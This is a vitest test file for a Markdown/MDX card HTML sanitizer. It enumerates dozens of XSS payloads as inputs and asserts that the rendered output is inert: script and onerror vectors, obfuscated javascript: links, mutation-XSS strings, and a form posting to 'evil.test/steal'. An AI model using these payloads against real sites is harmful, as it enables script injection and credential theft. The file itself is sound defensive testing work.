/** The card HTML sanitizer (src/core/site/card-html.ts): every attack vector, one by one. */
import type { Nodes as HastNodes } from "hast";
import { toHtml } from "hast-util-to-html";
import { htmlToHast } from "satteri";
import { describe, expect, it } from "vitest";
import { MarkdownSyntaxError, parseMarkdown, type MarkdownFormat } from "../../src/core/cards/markdown.ts";
import { cardHtml, reportCardHtml } from "../../src/core/site/card-html.ts";
import { applyEmbedPolicy, fileReferences, remoteResources, type EmbedPolicy } from "../../src/core/site/embed-policy.ts";

const FRONT = "---\ntitle: T\n---\n";
const NO_EMBEDS: EmbedPolicy = { embeds: [], siteUrl: "https://help.acme.test" };

function analyse(body: string, format: MarkdownFormat = "md") {
  const source = FRONT + body;
  return cardHtml({ source, format, tree: parseMarkdown(source, format) }, { report: true });
}

function render(body: string, format: MarkdownFormat = "md", policy: EmbedPolicy = NO_EMBEDS): string {
  const { tree } = analyse(body, format);
  applyEmbedPolicy(tree, policy);
  return toHtml(tree);
}

function parsesAsMdx(body: string): boolean {
  try {
    parseMarkdown(FRONT + body, "mdx");
    return true;
  } catch (error) {
    if (error instanceof MarkdownSyntaxError) return false;
    throw error;
  }
}

const FORBIDDEN = new Set(["script", "iframe", "object", "embed", "form", "style", "base", "meta", "link", "svg", "math", "template", "frame", "frameset", "noscript", "textarea"]);

/**
 * Nothing in the HTML can run script, checked as the browser parses it: no forbidden element, no
 * handler attribute, no URL with a scheme other than http(s), mailto, tel or an inline raster image.
 */
function expectInert(html: string): void {
  const stack: HastNodes[] = [htmlToHast(html, { fragment: true }) as unknown as HastNodes];
  while (stack.length > 0) {
    const node = stack.pop()!;
    if (node.type === "element") {
      expect(FORBIDDEN.has(node.tagName), `<${node.tagName}> in ${html}`).toBe(false);
      for (const [key, value] of Object.entries(node.properties)) {
        expect(/^on/i.test(key), `${key} in ${html}`).toBe(false);
        const text = String(value).replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
        expect(/^(javascript|vbscript|data:(?!image\/(png|gif|jpeg|webp|avif);))/.test(text), `${key}=${value}`).toBe(false);
      }
    }
    if ("children" in node) stack.push(...node.children);
  }
}

const VECTORS: Record<string, string> = {
  "script element": "<script>window.__xss = 1</script>\n\nText.",
  "inline script in a paragraph": "Hello <script>alert(1)</script> there.",
  "img onerror": '<img src=x onerror="alert(1)">',
  "details ontoggle": "<details open ontoggle=alert(1)>\n<summary>More</summary>\n\nBody\n\n</details>",
  "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
  "form with button": '<form action="https://evil.test/steal"><input name="pw"><button formaction="javascript:alert(1)">Go</button></form>',
  "style element and attribute": '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">x</p>',
  "base and meta": '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "svg with script and use": '<svg><script>alert(1)</script><use href="data:image/svg+xml;base64,PHN2Zy8+"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "math with href": '<math><mi href="javascript:alert(1)">x</mi><maction actiontype="statusline" xlink:href="javascript:alert(1)">y</maction></math>',
  "raw a href javascript": '<a href="javascript:alert(1)">click</a>',
  "raw a href mixed case": '<a href="JaVaScRiPt:alert(1)">click</a>',
  "raw a href tab entity": '<a href="java&#x09;script:alert(1)">click</a>',
  "raw a href entity encoded": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  "raw a href leading space and newline": '<a href=" \njavascript:alert(1)">click</a>',
  "raw a href vbscript": '<a href="vbscript:msgbox(1)">click</a>',
  "raw a href data html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  "markdown link javascript": "[click](javascript:alert(1))",
  "markdown link mixed case": "[click](JaVaScRiPt:alert(1))",
  "markdown link entity": "[click](java&#x09;script:alert(1))",
  "markdown link entity colon": "[click](javascript&#58;alert(1))",
  "markdown reference link": "[click][x]\n\n[x]: javascript:alert(1)",
  "markdown autolink": "<javascript:alert(1)>",
  "markdown link data html": "[click](data:text/html,<script>alert(1)</script>)",
  "markdown image data svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "markdown image javascript": "![x](javascript:alert(1))",
  "heading with html": "## Title <img src=x onerror=alert(1)>",
  "heading with script": "## Title <script>alert(1)</script>",
  "noscript breakout": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "comment breakout": "<!--><img src=x onerror=alert(1)>-->",
  "textarea breakout": "<textarea><img src=x onerror=alert(1)></textarea>",
  "table foster": "<table><tr><td>a</td></tr><img src=x onerror=alert(1)></table>",
  "template": "<template><img src=x onerror=alert(1)></template>",
  "link stylesheet": '<link rel="stylesheet" href="https://evil.test/x.css">',
  "remote script": '<script src="https://evil.test/x.js"></script>',
  "input image": '<input type="image" src="x" onfocus="alert(1)" autofocus>',
  "area href": '<map name="m"><area href="javascript:alert(1)"></map>',
  "video onerror": '<video src="x" onerror="alert(1)"><source src="y" onerror="alert(1)"></video>',
  // Mutation XSS from DOMPurify's test/fixtures/expect.mjs: namespace confusion the parser resolves differently on a second parse.
  "mxss svg, p and style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "mxss math, mglyph and textarea": '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  "mxss nested forms and math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "xmp breakout": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  // PortSwigger's XSS cheat sheet: an SVG animation event, and an animated href.
  "svg animate onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "svg animate href": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>',
  // JSX builds elements without the HTML parser: an attribute may hold the end tag of the raw-text element around it.
  "jsx raw-text breakouts": [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(2)>">x</p></textarea>',
    '<title><b title="</title><img src=x onerror=alert(3)>">x</b></title>',
    '<noembed><b title="</noembed><img src=x onerror=alert(4)>">x</b></noembed>',
    '<style><b title="</style><img src=x onerror=alert(5)>">x</b></style>',
  ].join("\n\n"),
};

describe("cardHtml removes everything that can run script", () => {
  for (const [name, body] of Object.entries(VECTORS)) {
    it(name, () => {
      expectInert(render(body));
      // As MDX the same text is either a syntax error (the card is refused) or sanitized alike.
      if (parsesAsMdx(body)) expectInert(render(body, "mdx"));
    });
  }

  it("(the check above fails on the same HTML without the sanitizer)", () => {
    for (const body of [VECTORS["img onerror"]!, VECTORS["markdown link mixed case"]!, VECTORS["svg with script and use"]!]) {
      const source = FRONT + body;
      const { tree } = cardHtml({ source, format: "md", tree: parseMarkdown(source) }, { unsafeSkipSanitizer: true });
      expect(() => expectInert(toHtml(tree))).toThrow();
    }
    const source = FRONT + VECTORS["jsx raw-text breakouts"]!;
    const { tree } = cardHtml({ source, format: "mdx", tree: parseMarkdown(source, "mdx") }, { unsafeSkipSanitizer: true });
    expect(() => expectInert(toHtml(tree))).toThrow();
  });

  it("removes MDX JSX event handlers; built-in components keep only their own markup, unknown ones their text", () => {
    const html = render("<div onClick={alert(1)}>jsx text</div>\n\n<Callout type=\"warning\" onMouseOver=\"alert(1)\">Be careful</Callout>\n\n<Foo onClick=\"alert(1)\">foo text</Foo>\n", "mdx");
    expectInert(html);
    expect(html).toContain("jsx text");
    expect(html).toMatch(/<div class="callout callout-warning" role="note" aria-label="Warning">.*Be careful/s);
    expect(html).toContain("foo text");
    expect(html).not.toMatch(/onmouseover|onclick|<foo/i);
  });

  it("strips HTML comments, including the guidance verity new writes", () => {
    const html = render("<!-- internal note: the PIN is 4242 -->\n\nText <!-- inline secret --> here.\n\n<!--\nWrite the steps here.\n-->\n");
    expect(html).not.toContain("4242");
    expect(html).not.toContain("secret");
    expect(html).not.toContain("Write the steps");
    expect(html).not.toContain("<!--");
  });
});

describe("cardHtml keeps what the sites need", () => {
  it("keeps details and summary, tables, task lists, code languages, kbd and safe links", () => {
    const html = render(
      "<details>\n<summary>More</summary>\n\nHidden **text**\n\n</details>\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n\n```js\nlet x;\n```\n\nPress <kbd>Ctrl</kbd>. [Web](https://acme.test/a?b=c#d), [mail](mailto:help@acme.test), [call](tel:+15550100), [page](../x.md), <a href=\"/billing/\">raw</a>.\n",
    );
    expect(html).toContain("<details>");
    expect(html).toContain("<summary>More</summary>");
    expect(html).toContain("<strong>text</strong>");
    expect(html).toMatch(/<td[^>]*>1<\/td>/);
    expect(html).toContain('class="contains-task-list"');
    expect(html).toContain('class="language-js"');
    expect(html).toContain("<kbd>Ctrl</kbd>");
    for (const href of ["https://acme.test/a?b=c#d", "mailto:help@acme.test", "tel:+15550100", "../x.md", "/billing/"]) expect(html).toContain(`href="${href}"`);
    expect(analyse("| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n\nA note.[^1]\n\n[^1]: Text.\n").removed).toEqual([]);
  });

  it("keeps inline raster data: images and drops every other data: URL", () => {
    expect(render("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(render("![x](data:image/svg+xml;base64,PHN2Zy8+)")).not.toContain("data:");
    expect(render("[x](data:image/png;base64,iVBORw0KGgo=)")).not.toContain("data:");
  });

  it("prefixes ids and names an author writes, and footnote links still reach their notes", () => {
    const html = render('<a name="getElementById">x</a> <span id="search">y</span>\n\nA note.[^1]\n\n[^1]: The note.\n');
    expect(html).toContain('name="user-content-getElementById"');
    expect(html).toContain('id="user-content-search"');
    const refs = [...html.matchAll(/href="#([^"]+)"/g)].map((m) => m[1]);
    const ids = new Set([...html.matchAll(/id="([^"]+)"/g)].map((m) => m[1]));
    expect(refs.length).toBeGreaterThanOrEqual(2);
    for (const ref of refs) expect(ids.has(ref)).toBe(true);
  });
});

describe("remote resources and the embed allow-list", () => {
  const remote = [
    "![chart](https://evil.test/pixel.png)",
    "![chart](//evil.test/pixel.png)",
    "<img src=\"\\\\evil.test\\pixel.png\" alt=\"chart\">",
    "<img src=\"https:&#x2F;&#x2F;evil.test/pixel.png\" alt=\"chart\">",
    "<picture><source srcset=\"a.png 1x, https://evil.test/b.png 2x\"><img src=\"a.png\" alt=\"chart\"></picture>",
    "<video src=\"https://evil.test/v.mp4\" controls></video>",
    "<audio src=\"https://evil.test/a.mp3\" controls></audio>",
    "<video controls><source src=\"https://evil.test/v.mp4\"></video>",
    "<iframe src=\"https://evil.test/embed\"></iframe>",
    "<video poster=\"https://evil.test/p.png\" src=\"v.mp4\"></video>",
    // A scheme without // is absolute on a page of another scheme (an http preview).
    "![chart](https:evil.test/pixel.png)",
    "<img src=\"https:evil.test/pixel2.png\" alt=\"chart\">",
    "<img src=\" HTTP:evil.test/pixel3.png\" alt=\"chart\">",
  ];
  for (const body of remote) {
    it(`removes ${body}`, () => {
      const html = render(body);
      expect(html).not.toContain("evil.test");
    });
  }

  it("lists every remote resource with its host and line", () => {
    const { tree } = analyse("Text\n\n![a](https://cdn.example/a.png)\n\n<iframe src=\"https://player.vimeo.com/video/1\"></iframe>\n");
    expect(remoteResources(tree).map((r) => [r.tag, r.host, r.line])).toEqual([
      ["img", "cdn.example", 6],
      ["iframe", "player.vimeo.com", 8],
    ]);
  });

  it("keeps an iframe from an allow-listed host, sandboxed, and drops http or other hosts", () => {
    const policy = { embeds: ["player.vimeo.com", "*.diagrams.example"], siteUrl: "https://help.acme.test" };
    const html = render('<iframe src="https://player.vimeo.com/video/1" width="640" srcdoc="x" onload="alert(1)" allow="camera"></iframe>', "md", policy);
    expect(html).toContain('src="https://player.vimeo.com/video/1"');
    expect(html).toContain('sandbox="allow-scripts allow-same-origin allow-popups allow-presentation"');
    expect(html).not.toMatch(/srcdoc|onload|camera/);
    expect(render('<iframe src="https://a.diagrams.example/d/1"></iframe>', "md", policy)).toContain("<iframe");
    expect(render('<iframe src="https://diagrams.example.evil.test/d"></iframe>', "md", policy)).not.toContain("<iframe");
    expect(render('<iframe src="http://player.vimeo.com/video/1"></iframe>', "md", policy)).not.toContain("<iframe");
    expect(render('<iframe src="page.html"></iframe>', "md", policy)).not.toContain("<iframe");
    expect(render("![logo](https://help.acme.test/logo.png)", "md", policy)).toContain("https://help.acme.test/logo.png");
  });

  // The HTML serializer writes the text of an <iframe> (like <script>'s) unescaped: an allowed iframe
  // with text in it (inline in a paragraph, or a JSX iframe in MDX) would close itself with that text.
  it("an allowed iframe keeps no content: text in it cannot close it and write markup after it", () => {
    const policy = { embeds: ["www.youtube-nocookie.com"], siteUrl: "https://help.acme.test" };
    const payload = "&lt;/iframe&gt;&lt;img src=x onerror=alert(1)&gt;&lt;meta http-equiv=refresh content=&quot;0;url=https://evil.test/&quot;&gt;";
    const bodies: [string, MarkdownFormat][] = [
      [`Watch: <iframe src="https://www.youtube-nocookie.com/embed/abc">${payload}</iframe> now.\n`, "md"],
      [`<iframe src="https://www.youtube-nocookie.com/embed/abc">\n\nText ${payload}\n\n</iframe>\n`, "md"],
      [`<iframe src="https://www.youtube-nocookie.com/embed/abc">{"</iframe><img src=x onerror=alert(1)>"}</iframe>\n`, "mdx"],
      [`<iframe src="https://www.youtube-nocookie.com/embed/abc">${payload}</iframe>\n`, "mdx"],
    ];
    for (const [body, format] of bodies) {
      const html = render(body, format, policy);
      expect(html, body).toContain('src="https://www.youtube-nocookie.com/embed/abc"');
      expect(html, body).toMatch(/<iframe [^>]*><\/iframe>/);
      expect(html, body).not.toMatch(/<img|<meta|onerror/);
    }
  });

  it("takes an absolute URL that spells the placeholder host of relative paths as remote", () => {
    for (const url of ["https://card.verity.invalid/../x.png", "//card.verity.invalid/x.png", "https://CARD.verity.invalid/x.png"]) {
      expect(render(`![x](${url})`), url).not.toMatch(/card\.verity\.invalid/i);
      expect(remoteResources(analyse(`![x](${url})`).tree).map((r) => r.host), url).toEqual(["card.verity.invalid"]);
    }
    expect(remoteResources(analyse("![x](images/x.png)").tree)).toEqual([]);
  });

  it("leaves an image's alt text where a remote image was removed", () => {
    expect(render("See ![the chart](https://evil.test/c.png) here.")).toContain("See the chart here.");
  });
});

describe("what lint is told was removed", () => {
  it("names the element, attribute or URL at its line", () => {
    const { removed } = analyse(
      "Intro\n\n<script>x()</script>\n\n<img src=\"a.png\" onerror=\"x()\" class=\"big\">\n\n[go](javascript:alert(1))\n\n<font color=red>old</font>\n\n<!-- a comment -->\n",
    );
    expect(removed.map((r) => [r.kind, r.tag, r.attribute ?? "", r.line])).toEqual([
      ["element", "script", "", 6],
      ["attribute", "img", "onerror", 8],
      ["attribute", "img", "class", 8],
      ["url", "a", "href", 10],
      ["element", "font", "", 12],
    ]);
    expect(removed[0]!.message).toMatch(/cannot run scripts/);
    expect(removed[3]!.message).toContain("javascript:alert(1)");
    expect(removed[4]!.withContent).toBe(false);
  });

  it("drops srcset, whose images are never published as files, and says so", () => {
    const { removed } = analyse('<picture><source srcset="../ops/secret.png 1x, b.png 2x" media="(min-width: 1px)"><img src="a.png" alt="c"></picture>\n');
    expect(removed.map((r) => [r.kind, r.tag, r.attribute ?? ""])).toEqual([["attribute", "source", "srcset"]]);
    const html = render('<picture><source srcset="../ops/secret.png 1x"><img src="a.png" alt="c"></picture>\n');
    expect(html).not.toContain("secret");
    expect(html).toContain('<img src="a.png" alt="c">');
  });

  it("reports nothing for plain Markdown", () => {
    expect(analyse("# Title\n\nText with *emphasis*, `code`, [a link](https://acme.test) and ![img](a.png).\n\n> Quote\n\n1. One\n2. Two\n\n---\n").removed).toEqual([]);
  });
});

describe("reportCardHtml (what lint runs)", () => {
  it("for cards without HTML, reports exactly what the full rendering reports", () => {
    const bodies = [
      "[a](javascript:alert(1)) [b](JaVaScRiPt:x) [c](java&#x09;script:x) [d](vbscript:x) [e](data:text/html,x) [f](https://ok.test) [g](mailto:a@b.test) [h](tel:+1) [i](../x.md#y) [j](file.pdf) [k](ftp://x.test/y)",
      "![a](data:image/png;base64,AAAA) ![b](data:image/svg+xml;base64,AAAA) ![c](javascript:x) ![d](https://cdn.test/x.png) ![e](//cdn.test/y.png) ![f](local.png)",
      "[ref link][r1] and ![ref image][r2] and [unused]\n\n[r1]: javascript:alert(1)\n[r2]: data:image/gif;base64,R0lG\n[r3]: javascript:unused",
      "<https://ok.test> <javascript:alert(1)> <mailto:a@b.test> www.example.test",
      "# [Heading link](javascript:x)\n\n> - [quoted](vbscript:x)\n\n| a | b |\n|:-|-:|\n| [cell](data:x) | ![img](https://cdn.test/t.png) |\n\nNote[^1]\n\n[^1]: [foot](javascript:x)",
    ];
    for (const body of bodies) {
      const source = FRONT + body;
      const card = { source, format: "md" as const, tree: parseMarkdown(source) };
      const full = cardHtml(card, { report: true });
      const fast = reportCardHtml(card);
      expect(fast.removed, body).toEqual(full.removed);
      expect(fast.resources, body).toEqual(remoteResources(full.tree));
      expect(fast.files, body).toEqual(fileReferences(full.tree));
    }
  });
});

describe("URL attributes no reader sees", () => {
  it("drops cite and longdesc, which the build would neither check nor rewrite, in HTML and in MDX literals", () => {
    const html = render('<blockquote cite="/wiki/secret/">Quoted</blockquote>\n\n<q cite="https://wiki.acme.test/wiki/x/">q</q> <del cite="../wiki/a.md">d</del> <ins cite="/x">i</ins> <img src="a.png" longdesc="../wiki/x.md" alt="a">\n');
    expect(html).toContain("Quoted");
    expect(html).toContain('src="a.png"');
    expect(html).not.toMatch(/cite=|longdesc=/i);
    const mdx = render('<q cite={"/wiki/secret/"}>Quoted</q> <img src={"a.png"} longDesc={"/wiki/x"} alt="a" />\n', "mdx");
    expect(mdx).toContain("Quoted");
    expect(mdx).not.toMatch(/cite=|longdesc=/i);
  });
});
